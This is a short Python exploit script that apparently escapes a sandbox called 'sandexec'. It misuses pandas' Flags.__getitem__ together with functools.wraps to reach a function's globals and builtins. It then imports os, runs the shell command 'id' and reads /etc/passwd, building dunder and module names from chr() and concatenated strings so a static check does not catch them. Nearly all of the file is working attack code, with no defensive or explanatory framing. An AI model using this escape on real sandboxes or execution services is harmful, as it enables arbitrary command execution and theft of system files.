# source: pandas 1.5.3 pandas/core/flags.py (Flags.__getitem__ = getattr(self, key) for key in self._keys), sandexec README, "The static check", note on pd.Flags; functools.update_wrapper copies wrapped.__dict__
# family: foreign self for a library dunder: a plain class's own private self._keys; @functools.wraps(obj) copies the object's __dict__ into a def; Flags.__getitem__ as a plain function = getattr by computed name on any object carrying _keys
# goal: function __builtins__ dict -> __import__('os').system('id'), open('/etc/passwd')
import functools

import pandas as pd


class Every:
    def __contains__(self, k):
        return True


class Keys:
    def __init__(self):
        self._keys = Every()


g = Keys()
u = chr(95) * 2


@functools.wraps(g)
def look():
    return 1


fetch = pd.Flags.__getitem__
print(fetch(look, u + "glob" + "als" + u)[u + "name" + u])
bd = fetch(look, u + "buil" + "tins" + u)
ga = bd["get" + "attr"]
imp = bd[u + "imp" + "ort" + u]
osm = imp("o" + "s")
print(osm)
ga(osm, "sys" + "tem")("id")
print(bd["op" + "en"](chr(47) + "etc" + chr(47) + "passwd").read()[:120])
